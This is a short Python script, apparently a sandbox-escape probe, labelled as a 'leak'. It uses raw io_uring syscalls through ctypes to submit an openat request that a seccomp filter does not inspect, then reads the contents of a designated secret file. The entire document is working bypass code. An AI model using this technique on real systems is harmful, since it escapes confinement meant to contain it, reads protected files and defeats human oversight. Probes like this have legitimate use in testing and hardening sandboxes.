# effect: leak
# note: opened by the kernel's ring, where seccomp does not look
import mmap
import os
import struct

import ctypes
import platform

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def syscall(x86_64, aarch64, *args):
    number = {"x86_64": x86_64, "aarch64": aarch64}[platform.machine()]
    long = ctypes.c_long
    args = [long(a) if type(a) is int else a for a in args]
    return LIBC.syscall(long(number), *args)

def attempt(probe):
    parameters = ctypes.create_string_buffer(120)
    ring = syscall(425, 425, 4, parameters)
    if ring < 0:
        return os.strerror(ctypes.get_errno())
    fields = struct.unpack("30I", parameters.raw)
    sq, cq = fields[10:20], fields[20:30]
    head, tail, mask, _, _, _, array = sq[:7]
    queue = mmap.mmap(ring, array + 4 * fields[0], offset=0)
    entries = mmap.mmap(ring, 64 * fields[0], offset=0x10000000)
    done = mmap.mmap(ring, cq[5] + 16 * fields[1], offset=0x8000000)
    path = ctypes.create_string_buffer(probe["secret_file"].encode())
    entries[:64] = struct.pack(
        "<BBHiQQIIQ24x", 18, 0, 0, -100, 0, ctypes.addressof(path), 0, 0, 7
    )
    queue[array : array + 4] = struct.pack("I", 0)
    queue[tail : tail + 4] = struct.pack("I", 1)
    syscall(426, 426, ring, 1, 1, 1, 0, 0)
    (result,) = struct.unpack("i", done[cq[5] + 8 : cq[5] + 12])
    return os.read(result, 100)
